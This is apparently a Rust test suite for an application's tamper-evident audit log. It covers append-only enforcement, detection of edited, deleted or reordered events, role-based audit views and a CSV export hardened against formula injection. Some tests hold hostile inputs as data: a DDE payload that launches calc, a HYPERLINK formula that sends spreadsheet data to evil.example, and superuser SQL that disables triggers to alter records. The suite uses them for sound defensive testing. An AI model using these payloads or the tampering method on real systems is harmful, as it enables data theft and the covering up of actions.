//! The audit log: one unbroken chain however many write at once; the application cannot
//! change or remove an event; and tampering by someone who can (a database superuser) is
//! found, with the first bad event named.

use gantry_app::audit::{append, verify, NewEvent, Verdict};
use sqlx::PgPool;

async fn write(db: &PgPool, n: usize) {
    for i in 0..n {
        let user = format!("10000{i}");
        let event = NewEvent {
            kind: "sign_in",
            user_id: Some(&user),
            outcome: "ok",
            ..NewEvent::default()
        };
        append(db, &event).await.unwrap();
    }
}

/// Runs `sql` with triggers off, as only a superuser can: what an attacker with full
/// database access would do.
async fn tamper(db: &PgPool, sql: &str) {
    let mut tx = db.begin().await.unwrap();
    sqlx::query("set local session_replication_role = replica").execute(&mut *tx).await.unwrap();
    sqlx::query(sql).execute(&mut *tx).await.unwrap();
    tx.commit().await.unwrap();
}

async fn broken_at(db: &PgPool) -> (i64, String) {
    match verify(db).await.unwrap() {
        Verdict::Broken(broken) => (broken.id, broken.why.to_owned()),
        Verdict::Intact(checked) => panic!("tampering not found ({} events)", checked.events),
    }
}

#[sqlx::test(migrator = "gantry::db::MIGRATOR")]
async fn concurrent_appends_make_one_unbroken_chain(db: PgPool) {
    let writers: Vec<_> = (0..50)
        .map(|i| {
            let db = db.clone();
            tokio::spawn(async move {
                let user = format!("writer-{i}");
                let event = NewEvent {
                    kind: "denied",
                    user_id: Some(&user),
                    outcome: "refused",
                    ..NewEvent::default()
                };
                append(&db, &event).await.unwrap()
            })
        })
        .collect();
    for writer in writers {
        writer.await.unwrap();
    }
    let Verdict::Intact(checked) = verify(&db).await.unwrap() else { panic!("chain broken") };
    assert_eq!(checked.events, 50);
    let head: Vec<u8> =
        sqlx::query_scalar("select hash from audit_event order by audit_event_id desc limit 1")
            .fetch_one(&db)
            .await
            .unwrap();
    assert_eq!(checked.head, head);
}

#[sqlx::test(migrator = "gantry::db::MIGRATOR")]
async fn the_application_cannot_change_or_remove_an_event(db: PgPool) {
    write(&db, 2).await;
    for sql in [
        "update audit_event set user_id = 'someone-else'",
        "delete from audit_event where audit_event_id = 1",
        "truncate audit_event",
    ] {
        let error = sqlx::query(sql).execute(&db).await.expect_err(sql).to_string();
        assert!(error.contains("append-only"), "{sql}: {error}");
    }
    let Verdict::Intact(checked) = verify(&db).await.unwrap() else { panic!("chain broken") };
    assert_eq!(checked.events, 2);
}

#[sqlx::test(migrator = "gantry::db::MIGRATOR")]
async fn an_edited_event_is_named(db: PgPool) {
    write(&db, 5).await;
    tamper(&db, "update audit_event set user_id = '999999' where audit_event_id = 3").await;
    let (id, why) = broken_at(&db).await;
    assert_eq!(id, 3);
    assert!(why.contains("contents were changed"), "{why}");
}

#[sqlx::test(migrator = "gantry::db::MIGRATOR")]
async fn a_deleted_event_breaks_the_chain_at_the_next(db: PgPool) {
    write(&db, 5).await;
    tamper(&db, "delete from audit_event where audit_event_id = 2").await;
    let (id, why) = broken_at(&db).await;
    assert_eq!(id, 3);
    assert!(why.contains("does not follow"), "{why}");
}

#[sqlx::test(migrator = "gantry::db::MIGRATOR")]
async fn reordered_events_are_found(db: PgPool) {
    write(&db, 5).await;
    // Events 2 and 3 trade places: every column but the id swapped (the unique hashes
    // would be in each other's way for a moment: an attacker drops that first).
    tamper(&db, "alter table audit_event drop constraint audit_event_hash_key").await;
    tamper(
        &db,
        "update audit_event a set occurred_at = b.occurred_at, kind = b.kind, user_id = b.user_id,
             outcome = b.outcome, previous_hash = b.previous_hash, hash = b.hash
         from (select * from audit_event) b
         where (a.audit_event_id, b.audit_event_id) in ((2, 3), (3, 2))",
    )
    .await;
    let (id, why) = broken_at(&db).await;
    assert_eq!(id, 2);
    assert!(why.contains("does not follow"), "{why}");
}

#[sqlx::test(migrator = "gantry::db::MIGRATOR")]
async fn every_sign_in_and_refusal_lands_in_the_chain(db: PgPool) {
    let app = gantry_tests::spawn_app(db.clone()).await;
    let _ = app.client_as("stakeholder").await;
    let anonymous = gantry_tests::anonymous_client();
    assert_eq!(anonymous.post(app.url("/api/overview")).send().await.unwrap().status(), 401);
    let kinds: Vec<(String, String)> =
        sqlx::query_as("select kind, outcome from audit_event order by audit_event_id")
            .fetch_all(&db)
            .await
            .unwrap();
    let kinds: Vec<(&str, &str)> = kinds.iter().map(|(k, o)| (k.as_str(), o.as_str())).collect();
    // The admin the test client signs in as, the stakeholder, then the refusal.
    assert_eq!(kinds, [("sign_in", "ok"), ("sign_in", "ok"), ("denied", "refused")]);
    let Verdict::Intact(checked) = verify(&db).await.unwrap() else { panic!("chain broken") };
    assert_eq!(checked.events, 3);
    app.stop().await;
}

async fn page(client: &reqwest::Client, url: String) -> (u16, String) {
    let response = client.get(url).send().await.unwrap();
    (response.status().as_u16(), response.text().await.unwrap())
}

fn rows_of(html: &str, kind: &str) -> usize {
    html.matches(&format!("data-kind=\"{kind}\"")).count()
}

#[sqlx::test(migrator = "gantry::db::MIGRATOR")]
async fn the_audit_page_filters_and_exports_only_what_the_reader_may_see(db: PgPool) {
    let app = gantry_tests::spawn_on_simulator(db, &[]).await;
    // Two refusals on two environments, besides the sign-ins.
    let developer = app.client_as("developer").await;
    assert_eq!(
        developer.get(app.url("/environments/prod/actions/sync")).send().await.unwrap().status(),
        403
    );
    let stakeholder = app.client_as("stakeholder").await;
    let scale = app.url("/environments/dev/actions/scale?workload=backend");
    assert_eq!(stakeholder.get(scale).send().await.unwrap().status(), 403);

    let (status, all) = page(&app.client, app.url("/audit")).await;
    assert_eq!(status, 200);
    assert_eq!(
        (rows_of(&all, "sign_in"), rows_of(&all, "denied")),
        (3, 2),
        "the admin sees everything"
    );
    let (_, prod) = page(&app.client, app.url("/audit?env=prod&outcome=refused")).await;
    assert_eq!((rows_of(&prod, "sign_in"), rows_of(&prod, "denied")), (0, 1));
    assert!(prod.contains("Dana Developer"), "the refused person is named");

    // An approver reads the environments' events, not the sign-ins (no environment).
    let approver = app.client_as("approver").await;
    let (status, seen) = page(&approver, app.url("/audit")).await;
    assert_eq!(status, 200);
    assert_eq!((rows_of(&seen, "sign_in"), rows_of(&seen, "denied")), (0, 2));
    // A stakeholder reads none of it, and that refusal is recorded too.
    assert_eq!(page(&stakeholder, app.url("/audit")).await.0, 403);
    assert_eq!(stakeholder.get(app.url("/api/audit.csv")).send().await.unwrap().status(), 403);

    let (status, text) = page(&app.client, app.url("/audit?from=yesterday")).await;
    assert_eq!(status, 400);
    assert!(text.contains("is not a date"), "bad filter explained");
    assert_eq!(
        app.client.get(app.url("/api/audit.json?to=never")).send().await.unwrap().status(),
        400
    );

    let csv = app.client.get(app.url("/api/audit.csv?env=prod")).send().await.unwrap();
    assert_eq!(csv.headers()["content-type"], "text/csv; charset=utf-8");
    let csv = csv.text().await.unwrap();
    let lines: Vec<&str> = csv.lines().collect();
    assert!(lines[0].starts_with("id,occurred_at,kind,user_id"), "{csv}");
    assert_eq!(lines.len(), 2, "{csv}");
    assert!(lines[1].contains("\"prod\"") && lines[1].contains("\"developer\""), "{csv}");
    let json: serde_json::Value = app
        .client
        .get(app.url("/api/audit.json?action=sign_in"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let events = json["events"].as_array().unwrap();
    assert_eq!(events.len(), 4, "admin, developer, stakeholder, approver signed in: {json}");
    assert!(events
        .iter()
        .all(|e| e["kind"] == "sign_in" && e["hash"].as_str().unwrap().len() == 64));

    let (_, checked) = page(&app.client, app.url("/audit?verify=1")).await;
    assert!(checked.contains("data-chain=\"intact\""), "the admin's chain check");
    let (_, not_offered) = page(&approver, app.url("/audit?verify=1")).await;
    assert!(!not_offered.contains("data-chain"), "the chain check is for admins");
    app.stop().await;
}

/// A rejection comment and a forwarded address are what a person outside the team can
/// put into the audit log; neither may run in the spreadsheet of the admin who exports it.
#[sqlx::test(migrator = "gantry::db::MIGRATOR")]
async fn the_csv_export_cannot_be_turned_against_its_reader(db: PgPool) {
    use gantry_tests::actions::{ask, post};
    let app =
        gantry_tests::spawn_on_simulator(db.clone(), &[("GANTRY_TRUSTED_PROXIES", "127.0.0.1")])
            .await;
    let operator = app.client_as("operator").await;
    let approver = app.client_as("approver").await;
    let body = serde_json::json!({"environment": "prod", "action": "restart", "workload": "redis", "reason": "@SUM(1+1)*cmd|' /C calc'!A0"});
    let (status, asked) = ask(&app, &operator, body).await;
    assert_eq!(status, 201, "{asked}");
    let id = asked["request"]["id"].as_i64().unwrap();
    let comment = "=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")";
    let path = format!("/api/requests/{id}/reject");
    let (status, _) = post(&app, &approver, &path, serde_json::json!({ "comment": comment })).await;
    assert_eq!(status, 200);
    // Through the trusted proxy: an address is believed and kept, anything else is not.
    for forwarded in ["203.0.113.9", "=1+1"] {
        let response = gantry_tests::anonymous_client()
            .get(app.url("/api/me"))
            .header("x-forwarded-for", forwarded)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 401);
    }
    let csv = app.get("/api/audit.csv").await.text().await.unwrap();
    assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1"), "{csv}");
    assert!(!csv.contains(",\"=") && !csv.contains(",\"@") && !csv.contains(",\"+"), "{csv}");
    let kept: Vec<(Option<String>, Option<String>)> = sqlx::query_as(
        "select client_addr, forwarded_for from audit_event where kind = 'denied' and request = 'GET /api/me' order by audit_event_id",
    )
    .fetch_all(&db)
    .await
    .unwrap();
    assert_eq!(
        kept,
        [
            (Some("203.0.113.9".to_owned()), Some("203.0.113.9".to_owned())),
            (Some("127.0.0.1".to_owned()), None)
        ],
        "the forwarded address, believed from the proxy only when it is one"
    );
    app.stop().await;
}
